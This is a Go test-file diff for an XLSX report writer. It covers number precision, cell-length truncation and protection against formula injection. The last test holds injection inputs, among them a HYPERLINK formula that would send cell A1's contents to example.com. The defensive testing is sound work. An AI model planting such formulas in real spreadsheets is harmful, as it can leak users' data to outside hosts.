@@ -6,6 +6,7 @@ import (
 	"errors"
 	"math"
 	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/xuri/excelize/v2"
@@ -257,5 +258,118 @@ func TestWriteXLSX_StopsWhenContextIsCanceled(t *testing.T) {
 	}
 	if buf.Len() != 0 {
 		t.Errorf("wrote %d bytes after cancel", buf.Len())
+	}
+}
+
+func TestWriteXLSX_KeepsEveryDigitOfNumbersAFloatCannotHold(t *testing.T) {
+	t.Parallel()
+	fields := []writer.Field{
+		{Name: "n", Label: "Valor", Kind: writer.KindNumber, Decimals: -1},
+		{Name: "p", Label: "NS (%)", Kind: writer.KindPercent, Decimals: 2},
+	}
+	rows := writertest.New([]string{"n", "p"},
+		// 18 significant digits: a float64 holds 9876543210987654 (issue 13).
+		[]any{"9876543210987654.32", "12345678901234567.891"},
+		// 17 digits, but exactly the double a float result is: stays a number,
+		// written like Excel keeps it, to 15 significant digits (0.3).
+		[]any{"0.30000000000000004", "50"},
+		// 15 digits: a number.
+		[]any{"123456789012345", "99.5"},
+	)
+	for _, tt := range []struct {
+		lang             string
+		wantN, wantP     string
+		wantSmall        string
+		wantSmallPercent string
+	}{
+		// The percent is rounded to 2 places: 12345678901234567.891 → …567.89.
+		{"pt-BR", "9876543210987654,32", "12345678901234567,89%", "0.300000000000000", "0.5"},
+		{"en", "9876543210987654.32", "12345678901234567.89%", "0.300000000000000", "0.5"},
+	} {
+		var buf bytes.Buffer
+		st, err := writer.WriteXLSX(context.Background(), &buf, fields, rows, tt.lang, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows = writertest.New([]string{"n", "p"},
+			[]any{"9876543210987654.32", "12345678901234567.891"}, []any{"0.30000000000000004", "50"}, []any{"123456789012345", "99.5"})
+		if st.TextNumbers != 2 || st.CutCells != 0 {
+			t.Errorf("%s: stats %+v, want 2 numbers as text and no cut", tt.lang, st)
+		}
+		f, err := excelize.OpenReader(&buf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet := f.GetSheetName(0)
+		for _, c := range []struct {
+			cell, want string
+			typ        excelize.CellType
+		}{
+			{"A2", tt.wantN, excelize.CellTypeInlineString},
+			{"B2", tt.wantP, excelize.CellTypeInlineString},
+			{"A3", tt.wantSmall, excelize.CellTypeUnset},
+			{"A4", "123456789012345", excelize.CellTypeUnset},
+		} {
+			got, _ := f.GetCellValue(sheet, c.cell, excelize.Options{RawCellValue: true})
+			typ, _ := f.GetCellType(sheet, c.cell)
+			if got != c.want || typ != c.typ {
+				t.Errorf("%s: %s = %q (type %v), want %q (type %v)", tt.lang, c.cell, got, typ, c.want, c.typ)
+			}
+		}
+		if got, _ := f.GetCellValue(sheet, "B3", excelize.Options{RawCellValue: true}); got != tt.wantSmallPercent {
+			t.Errorf("%s: B3 = %q, want %q (50 %% as a fraction)", tt.lang, got, tt.wantSmallPercent)
+		}
+		f.Close()
+	}
+}
+
+func TestWriteXLSX_CutsTextAtTheCellLimitAndCountsIt(t *testing.T) {
+	t.Parallel()
+	long := strings.Repeat("a", 40000)
+	fields := []writer.Field{{Name: "s", Label: "Texto", Kind: writer.KindString, Decimals: -1}}
+	var buf bytes.Buffer
+	st, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, []any{long}, []any{"curto"}), "pt-BR", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.CutCells != 1 {
+		t.Errorf("CutCells = %d, want 1 (40,000 characters > 32,767)", st.CutCells)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if got, _ := f.GetCellValue("Relatório", "A2"); len(got) != 32767 {
+		t.Errorf("A2 has %d characters, want 32,767", len(got))
+	}
+}
+
+func TestWriteXLSX_WritesTextInTheTextFormatNeverAsFormula(t *testing.T) {
+	t.Parallel()
+	fields := []writer.Field{{Name: "s", Label: "Nome", Kind: writer.KindString, Decimals: -1}}
+	in := []string{"=HYPERLINK(\"http://example.com/x?\"&A1,\"Clique\")", "+5511900000002", "011900000007", "@SUM(1+1)"}
+	var rs [][]any
+	for _, s := range in {
+		rs = append(rs, []any{s})
+	}
+	var buf bytes.Buffer
+	if _, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, rs...), "en", nil); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, want := range in {
+		cell := "A" + strconv.Itoa(i+2)
+		formula, _ := f.GetCellFormula("Report", cell)
+		got, _ := f.GetCellValue("Report", cell)
+		style, _ := f.GetCellStyle("Report", cell)
+		s, _ := f.GetStyle(style)
+		if formula != "" || got != want || s == nil || s.NumFmt != 49 {
+			t.Errorf("%s: formula %q, value %q, style %+v; want no formula, %q, number format 49 (@)", cell, formula, got, s, want)
+		}
 	}
 }
